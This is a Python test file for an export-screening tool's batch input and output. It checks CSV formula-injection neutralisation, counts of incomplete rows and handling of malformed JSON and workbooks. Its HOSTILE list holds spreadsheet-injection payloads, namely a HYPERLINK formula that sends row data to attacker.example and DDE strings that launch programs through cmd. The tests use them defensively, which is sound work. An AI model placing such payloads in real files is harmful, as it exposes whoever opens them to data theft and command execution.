"""Batch outputs and inputs at the edges (out27).

* CSV / formula injection: a cell of the project's CSV output that begins with ``=``, ``+``,
  ``-``, ``@``, a tab or a CR was written as read, and a spreadsheet opening the output ran it
  as a formula (``=HYPERLINK("http://x/?"&A1,"see")`` as a row's id sends the row to a web
  address). Such a cell is written with an apostrophe before it (OWASP's neutralisation) in
  every CSV the project writes (batch output, web job results, Spark's CSV output: one
  ``csv_row``; re-screen output), and ``csv_record`` takes it off: the round trip is lossless.
* Batch summaries count the rows whose screen was cut (``incomplete``): the CLI's summary
  (``rows_incomplete``, and a warning on stderr) and the web job's status; before, they were
  among "with warnings" only.
* A key twice inside a nested object of a JSON array's element is that element's error row, as
  it is a JSONL line's (it was read, the repeated key's last value kept).
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tests.namesakes import cap_budget, namesakes_db
from typer.testing import CliRunner

from exportctl.cli import app
from exportctl.cli._common import ROW_ERRORS_EXIT
from exportctl.model import Entity, EntityType, Name
from exportctl.screening.batch import csv_record, csv_row, csv_values, read_rows, result_record
from exportctl.screening.batch.spreadsheet import formula_safe, from_formula_safe
from exportctl.sources.base import ParseResult
from exportctl.store import open_store

runner = CliRunner()

# OWASP's CSV Injection page: a cell must not begin with these (spelt out here, not read from
# spreadsheet.yaml, so that the test checks the data file too).
OWASP = ("=", "+", "-", "@", "\t", "\r")

# The hostile cells of the issue, each as a desk or an attacker would put it in a batch file.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"see details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # a spreadsheet that trims spaces on import reads a formula
    "'=1+1",  # already an apostrophe before it: must come back as it was
    "＝1+1",  # full-width equals (an East Asian input method enters it as =)
]


def _formula_start(cell: str) -> bool:
    """Whether a spreadsheet may read ``cell`` as a formula: a trigger first, or after spaces."""
    return cell[:1] in OWASP or cell.lstrip(" ")[:1] in OWASP


@given(st.text())
@example("=1+1")
@example("'=1+1")
@example("''@x")
@example("'Abd Allah")
@example("-12")
@example("-")
@example("'")
@example(" \t+")
def test_any_text_round_trips_and_no_cell_reads_as_a_formula(text: str) -> None:
    written = formula_safe(text)
    assert from_formula_safe(written) == text
    plain_number = text.strip() != "" and text.lstrip("+-").replace(".", "", 1).isdecimal()
    if not (plain_number and text.isascii()):
        assert not _formula_start(written)


@given(st.text(), st.text(), st.text(min_size=1))  # (a workbook's sheet has a title)
@example(HOSTILE[0], HOSTILE[1], HOSTILE[2])
def test_a_record_round_trips_through_its_csv_cells(row_id: str, error: str, sheet: str) -> None:
    """``csv_record(csv_row(rec))`` is ``rec`` for any id, error, warning and sheet name,
    written and read back by the csv module; no cell written begins with a trigger."""
    matches = [{"name": error or "x", "score": 0.9, "source": "un_sc", "source_id": "QDi.1"}]
    rec = result_record(row_id, matches, error or None, [error] if error else [], (sheet, 7))
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_row(rec))
    (cells,) = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert csv_record(cells) == rec
    for cell in cells:
        assert not _formula_start(cell) or cell.lstrip("+-").replace(".", "", 1).isdecimal()


def test_the_cells_of_the_issue_are_neutralised_and_come_back() -> None:
    for cell in HOSTILE:
        rec = result_record(cell, [], None, [cell])
        line = csv_values(rec)
        cells = next(csv.reader([line]))
        assert cells[0] == "'" + cell, cell
        assert csv_record(cells)["id"] == cell
    # A name beginning with an apostrophe and no trigger, a negative number, JSON: as they are.
    assert formula_safe("'Abd Allah") == "'Abd Allah"
    assert formula_safe("-12") == "-12" and formula_safe("+3.5") == "+3.5"
    assert formula_safe("-12a") == "'-12a"
    assert formula_safe(3) == 3 and formula_safe(-0.5) == -0.5  # numbers are not text
    assert csv_row(result_record("a", [], None, ["-x"]))[7] == '["-x"]'


@pytest.fixture
def db(tmp_path: Path) -> str:
    return namesakes_db(str(tmp_path / "names.sqlite"))


def _hostile_batch(tmp_path: Path) -> Path:
    src = tmp_path / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "name"])
        for i, cell in enumerate(HOSTILE):
            w.writerow([cell, "Zzyzx Qqq" if i % 2 else "Teodor Tudor"])
        w.writerow(["=ERROR()", ""])  # an error row: its error and id in the output
    return src


def test_the_batch_csv_output_neutralises_formula_cells(db: str, tmp_path: Path) -> None:
    src = _hostile_batch(tmp_path)
    out_csv, out_jsonl = tmp_path / "out.csv", tmp_path / "out.jsonl"
    for out in (out_csv, out_jsonl):
        res = runner.invoke(app, ["--db", db, "screen", "--input", str(src), "--output", str(out)])
        assert res.exit_code == 0, res.stderr
    with out_csv.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    recs = [json.loads(line) for line in out_jsonl.read_text("utf-8").splitlines()]
    # JSONL: as read (the reader strips a cell's spaces, tab and CR)
    assert [r["id"] for r in recs] == [*(c.strip() for c in HOSTILE), "=ERROR()"]
    assert [row[0] for row in rows] == ["'" + r["id"] for r in recs]
    for row in rows:
        assert not any(_formula_start(cell) for cell in row), row
    # Read back (Spark's driver reads its CSV output so): the records the JSONL holds.
    back = [csv_record(row) for row in rows]
    assert [b["id"] for b in back] == [r["id"] for r in recs]
    assert [b["error"] for b in back] == [r["error"] for r in recs]
    assert back[0]["matches"] == recs[0]["matches"] and recs[0]["matches"]


def test_the_rescreen_csv_output_neutralises_formula_cells(tmp_path: Path) -> None:
    from exportctl.store import diff_source

    db = str(tmp_path / "two.sqlite")
    store = open_store(db)
    for day, names in ((date(2026, 1, 5), ["Teodor Tudor"]), (date(2026, 2, 5), ["Zzyzx Qqq"])):
        ents = [
            Entity("un_sc", f"QDi.{i}", EntityType.PERSON, [Name(n)]) for i, n in enumerate(names)
        ]
        store.load(
            ParseResult("un_sc", "un_xml", ents, published=day, records_seen=len(ents)),
            sha256=str(day.month) * 64,
        )
    since = diff_source(store, "un_sc").old.id
    src = _hostile_batch(tmp_path)
    out = tmp_path / "changes.csv"
    res = runner.invoke(
        app,
        ["--db", db, "rescreen", "--input", str(src), "--since-snapshot", str(since),
         "--output", str(out)],
    )  # fmt: skip
    assert res.exit_code == 0, res.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert [row[0] for row in rows] == ["'" + c.strip() for c in [*HOSTILE, "=ERROR()"]]
    for row in rows:
        assert not any(_formula_start(cell) for cell in row), row
    assert any(json.loads(row[1]) for row in rows)  # the new listing found: a change written


def test_the_batch_summary_counts_rows_that_cannot_be_concluded(
    db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cap_budget(monkeypatch)
    src = tmp_path / "in.csv"
    src.write_text("name\nTeodor Tudor\nZzyzx Qqq\nTheodor Tudur\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    args = ["--db", db, "screen", "--input", str(src), "--output", str(out)]
    res = runner.invoke(app, [*args, "--json"])
    assert res.exit_code == 0, res.stderr
    summary = json.loads(res.stdout)
    assert summary["rows_incomplete"] == 2
    # the keys there were, kept
    assert {"rows", "with_matches", "errors", "with_warnings", "with_derived"} <= set(summary)
    assert summary["with_warnings"] >= 2
    assert "2 row(s) cannot be concluded (a screen or its ownership lookup cut)" in " ".join(
        res.stderr.split()
    )
    res = runner.invoke(app, args)  # the table's line, and the warning without --json
    assert "cannot be concluded" in res.stderr
    # A scheduled job stops on them as on rows with an error (their output written in full).
    res = runner.invoke(app, [*args, "--fail-on-errors"])
    assert res.exit_code == ROW_ERRORS_EXIT, res.stderr
    assert len(out.read_text(encoding="utf-8").splitlines()) == 4


def test_a_clean_batch_says_nothing_of_incomplete_rows(db: str, tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_text("name\nTeodor Tudor\n", encoding="utf-8")
    res = runner.invoke(
        app,
        ["--db", db, "screen", "--input", str(src), "--output", str(tmp_path / "o.csv"), "--json",
         "--fail-on-errors"],
    )  # fmt: skip
    assert res.exit_code == 0, res.stderr
    assert json.loads(res.stdout)["rows_incomplete"] == 0
    assert "cannot be concluded" not in res.stderr


def test_the_web_job_status_counts_rows_that_cannot_be_concluded(
    db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from exportctl.screening.decisions import DecisionBook
    from exportctl.screening.engine_cache import index_for
    from exportctl.screening.runner import screen_row
    from exportctl.web.jobs import JobStatus, run_batch

    cap_budget(monkeypatch)
    store = open_store(db)
    index, book = index_for(store), DecisionBook.load(store)
    src = tmp_path / "in.csv"
    src.write_text("name\nTeodor Tudor\nZzyzx Qqq\n", encoding="utf-8")
    body = run_batch(lambda row: screen_row(row, index, {}, book), lambda h, o: 0, len, {})
    status = JobStatus("j", "in.csv", "o", "running", 0, 0, 0, 0, 0, "2026-12-07T00:00:00Z")
    body(src, tmp_path / "out.csv", lambda _s: None, status)
    assert status.rows_incomplete == 1
    assert status.with_warnings >= 1 and status.done == 2
    # A status.json written before these fields still loads (a server upgraded mid-job).
    old: dict[str, Any] = {
        "id": "j", "filename": "f", "owner": "o", "state": "done", "total": 1, "done": 1,
        "hits": 0, "errors": 0, "queued": 0, "started_at": "2026-12-07T00:00:00Z",
    }  # fmt: skip
    assert JobStatus(**old).rows_incomplete == 0


def _rows(path: Path, text: str) -> list[tuple[str, dict[str, str], str | None]]:
    path.write_text(text, encoding="utf-8")
    return [(r.id, r.fields, r.error) for r in read_rows(path)]


@pytest.mark.parametrize(
    "nested",
    [
        '"country": {"code": "CD", "code": "RW"}',
        '"identifiers": [{"type": "passport", "type": "id"}]',
        '"x": [[{"a": {"b": 1, "b": 2}}]]',
    ],
)
def test_a_key_twice_in_a_nested_object_is_an_error_row_in_jsonl_and_json(
    tmp_path: Path, nested: str
) -> None:
    records = ['{"name": "Eric Badege", ' + nested + "}", '{"name": "Teodor Tudor"}']
    jsonl = _rows(tmp_path / "in.jsonl", "\n".join(records) + "\n")
    array = _rows(tmp_path / "in.json", "[" + ",\n".join(records) + "]")
    assert jsonl == array
    first, second = array
    assert first[2] is not None and "twice: which value to read is not known" in first[2]
    assert second == ("row-2", {"name": "Teodor Tudor"}, None)


def _damaged_second_sheet(path: Path) -> None:
    """A workbook of two headed sheets whose second sheet's XML breaks off after its header."""
    import zipfile

    from openpyxl import Workbook

    wb = Workbook()
    first = wb.active
    assert first is not None
    first.title = "Page 1"
    first.append(["Name", "Country"])
    first.append(["Teodor Tudor", "RO"])
    second = wb.create_sheet("Page 2")
    second.append(["Name", "Country"])
    second.append(["Zzyzx Qqq", "DE"])
    whole = path.with_suffix(".whole.xlsx")
    wb.save(whole)
    with zipfile.ZipFile(whole) as src, zipfile.ZipFile(path, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet2.xml":
                data = data[: data.index(b"</row>") + 6] + b"<row r="  # cut inside a row
            dst.writestr(item, data)


def test_a_workbook_is_read_as_it_comes_and_a_damaged_sheet_still_refuses_it(
    db: str, tmp_path: Path
) -> None:
    """The rows of a headed sheet are given as they are parsed (out27: every sheet was read
    whole before the first row); a later damaged sheet still refuses the workbook for every
    caller that screens, nothing written."""
    from exportctl.errors import InputError

    path = tmp_path / "in.xlsx"
    _damaged_second_sheet(path)
    rows = read_rows(path)
    first = next(rows)  # before sheet 2 is reached
    assert first.fields == {"name": "Teodor Tudor", "country": "RO"}
    with pytest.raises(InputError, match="cannot read workbook"):
        list(rows)
    out = tmp_path / "out.csv"
    res = runner.invoke(app, ["--db", db, "screen", "--input", str(path), "--output", str(out)])
    assert res.exit_code != 0 and "cannot read workbook" in res.stderr
    assert not out.exists()


def test_a_spark_runs_summary_counts_rows_that_cannot_be_concluded() -> None:
    """Spark's run summary takes the tasks' counts (accumulators, observed metrics) with the
    rows whose screen was cut among them (the executor's ``_incomplete`` column:
    ``test_batch_incomplete_ledger.py::test_a_spark_task_sends_incomplete_with_the_row``)."""
    from exportctl.spark.job import SparkRun, _counted

    run = SparkRun("in.csv", "out", "csv")
    assert _counted((3, 2, 0, 2, 0, 1), 3, run)
    assert (run.rows, run.with_warnings, run.rows_incomplete) == (3, 2, 1)
    assert run.to_dict()["rows_incomplete"] == 1
    assert not _counted((4, 2, 0, 2, 0, 1), 3, SparkRun("in.csv", "out", "csv"))
